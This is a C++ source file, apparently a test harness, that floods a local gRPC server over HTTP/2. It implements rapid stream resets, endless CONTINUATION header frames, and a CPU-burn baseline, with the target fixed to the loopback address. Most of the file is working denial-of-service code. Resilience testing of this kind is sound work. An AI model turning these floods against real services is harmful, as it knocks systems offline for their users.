// One attacker, as a process: raw HTTP/2 from one address of the loopback, at the lowest priority. For rpc_attacks.
//
//   rpc_attacker reset|continuation|burn PORT SOURCE plain|tls SECONDS
//
// reset: 20,000 streams a second, each opened and reset. continuation: headers that do not end, 10 MB a second. burn:
// nothing but work for the processor, for comparison. Writes what it did to stdout at its end.

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <memory>
#include <string>
#include <thread>
#include <utility>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

constexpr int kStreamsPerSecond = 20'000;
constexpr std::chrono::milliseconds kSlice{10};
constexpr std::chrono::milliseconds kBeforeReconnecting{5};
constexpr std::uint32_t kLastStream = 0x7FFFFF00U;

// RFC 9113, 6.
enum FrameType : std::uint8_t { kHeaders = 1, kReset = 3, kSettings = 4, kContinuation = 9 };
constexpr std::uint8_t kEndHeaders = 4;
constexpr std::size_t kFrameLimit = 16384;
/// What a line of 100 Mbit/s carries: a flood of bytes alone is not the point.
constexpr std::size_t kBytesPerSlice = 100'000;

struct Target {
  int port = 0;
  std::string source;
  bool tls = false;
};

/// A connection that is written to and drained; ends at the first error.
class Connection {
 public:
  explicit Connection(const Target& target) : socket_(::socket(AF_INET, SOCK_STREAM, 0)) {
    sockaddr_in from{}, to{};
    from.sin_family = to.sin_family = AF_INET;
    inet_pton(AF_INET, target.source.c_str(), &from.sin_addr);
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    to.sin_port = htons(std::uint16_t(target.port));
    const timeval patience{1, 0};
    setsockopt(socket_, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    setsockopt(socket_, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    open_ = bind(socket_, reinterpret_cast<sockaddr*>(&from), sizeof from) == 0 &&
            connect(socket_, reinterpret_cast<sockaddr*>(&to), sizeof to) == 0;
    if (open_ && target.tls) open_ = handshake();
    send(std::string("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") + frame(kSettings, 0, 0, {}));
  }
  ~Connection() {
    if (tls_ != nullptr) SSL_free(tls_);
    close(socket_);
  }
  Connection(const Connection&) = delete;
  Connection& operator=(const Connection&) = delete;

  bool open() const { return open_; }
  void send(const std::string& bytes) {
    for (std::size_t done = 0; open_ && done < bytes.size();) {
      drain();
      const auto left = bytes.size() - done;
      const long n = tls_ != nullptr ? SSL_write(tls_, bytes.data() + done, int(left))
                                     : long(::send(socket_, bytes.data() + done, left, MSG_NOSIGNAL));
      open_ = open_ && n > 0;
      if (n > 0) done += std::size_t(n);
    }
  }
  /// Reads what has come, and forgets it.
  void drain() {
    char bytes[16384];
    pollfd waiting{socket_, POLLIN, 0};
    while (open_ && poll(&waiting, 1, 0) > 0) {
      const long n = tls_ != nullptr ? SSL_read(tls_, bytes, sizeof bytes)
                                     : long(recv(socket_, bytes, sizeof bytes, MSG_DONTWAIT));
      open_ = n > 0 || (tls_ != nullptr && SSL_get_error(tls_, int(n)) == SSL_ERROR_WANT_READ);
      if (n <= 0) return;
    }
  }

  static std::string frame(FrameType type, std::uint8_t flags, std::uint32_t stream, const std::string& payload) {
    std::string out;
    for (int shift = 16; shift >= 0; shift -= 8) out.push_back(char(payload.size() >> shift));
    out.push_back(char(type));
    out.push_back(char(flags));
    for (int shift = 24; shift >= 0; shift -= 8) out.push_back(char(stream >> shift));
    return out + payload;
  }

 private:
  bool handshake() {
    static SSL_CTX* const context = [] {
      SSL_CTX* made = SSL_CTX_new(TLS_client_method());
      static const unsigned char kH2[] = {2, 'h', '2'};
      SSL_CTX_set_alpn_protos(made, kH2, sizeof kH2);
      return made;
    }();
    tls_ = SSL_new(context);
    SSL_set_fd(tls_, socket_);
    SSL_clear_mode(tls_, SSL_MODE_AUTO_RETRY);  // a session ticket is no reason to wait for more
    SSL_set_tlsext_host_name(tls_, "localhost");
    return SSL_connect(tls_) == 1;
  }

  int socket_;
  SSL* tls_ = nullptr;
  bool open_ = false;
};

/// Literals without indexing (RFC 7541, 6.2.2), lengths below 127.
std::string headerBlock() {
  std::string out;
  const std::vector<std::pair<std::string, std::string>> headers = {
      {":method", "POST"},         {":scheme", "http"}, {":path", "/lpv.v1.ServerService/GetServerInfo"},
      {":authority", "localhost"}, {"te", "trailers"},  {"content-type", "application/grpc"}};
  for (const auto& [name, value] : headers) {
    out.push_back(0);
    out.push_back(char(name.size()));
    out += name;
    out.push_back(char(value.size()));
    out += value;
  }
  return out;
}

struct Done {
  long connections = 0;
  long streams = 0;
  long bytes = 0;
};

void resetFor(const Target& target, Clock::time_point end, Done* done) {
  const std::string headers = headerBlock();
  const std::string cancel("\0\0\0\x08", 4);
  std::unique_ptr<Connection> connection;
  std::uint32_t stream = 1;
  for (Clock::time_point slice = Clock::now(); slice < end; slice += kSlice) {
    std::this_thread::sleep_until(slice);
    if (!connection || !connection->open() || stream > kLastStream) {
      std::this_thread::sleep_for(kBeforeReconnecting);
      connection = std::make_unique<Connection>(target);
      ++done->connections;
      stream = 1;
    }
    std::string burst;
    for (int i = 0; i < kStreamsPerSecond / (1000 / int(kSlice.count())); ++i, stream += 2) {
      burst += Connection::frame(kHeaders, kEndHeaders, stream, headers);
      burst += Connection::frame(kReset, 0, stream, cancel);
      ++done->streams;
    }
    connection->send(burst);
    done->bytes += long(burst.size());
    if (Clock::now() > slice + 20 * kSlice) slice = Clock::now();  // what was missed is not made up for
  }
}

/// Each frame is one more header of 16 KB.
void continueFor(const Target& target, Clock::time_point end, Done* done) {
  std::string more("\0\x01x", 3);
  const std::size_t size = kFrameLimit - more.size() - 4;
  more.push_back(127);  // then the rest of the length, seven bits at a time
  for (std::size_t rest = size - 127;; rest >>= 7U) {
    more.push_back(char((rest & 127U) | (rest > 127U ? 128U : 0U)));
    if (rest <= 127U) break;
  }
  more += std::string(size, 'x');
  more.resize(std::min(more.size(), kFrameLimit));
  while (Clock::now() < end) {
    Connection connection(target);
    ++done->connections;
    connection.send(Connection::frame(kHeaders, 0, 1, headerBlock()));
    std::size_t due = 0;
    for (Clock::time_point slice = Clock::now(); connection.open() && slice < end; slice += kSlice) {
      std::this_thread::sleep_until(slice);
      for (due += kBytesPerSlice; connection.open() && due >= more.size(); due -= more.size()) {
        connection.send(Connection::frame(kContinuation, 0, 1, more));
        done->bytes += long(more.size());
      }
    }
    ++done->streams;
    std::this_thread::sleep_for(kBeforeReconnecting);
  }
}

void burnFor(Clock::time_point end) {
  volatile std::uint64_t work = 1;
  while (Clock::now() < end) {
    for (int i = 0; i < 100'000; ++i) work = work * 6364136223846793005ULL + 1;
  }
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 6) {
    std::fprintf(stderr, "usage: rpc_attacker reset|continuation|burn PORT SOURCE plain|tls SECONDS\n");
    return 2;
  }
  std::signal(SIGPIPE, SIG_IGN);
  (void)setpriority(PRIO_PROCESS, 0, 19);
  const std::string mode = argv[1];
  const Target target{std::atoi(argv[2]), argv[3], std::string(argv[4]) == "tls"};
  const auto end = Clock::now() + std::chrono::seconds(std::atoi(argv[5]));
  Done done;
  if (mode == "reset") resetFor(target, end, &done);
  if (mode == "continuation") continueFor(target, end, &done);
  if (mode == "burn") burnFor(end);
  std::printf("%s: %ld connections, %ld streams, %ld bytes\n", mode.c_str(), done.connections, done.streams,
              done.bytes);
  return 0;
}
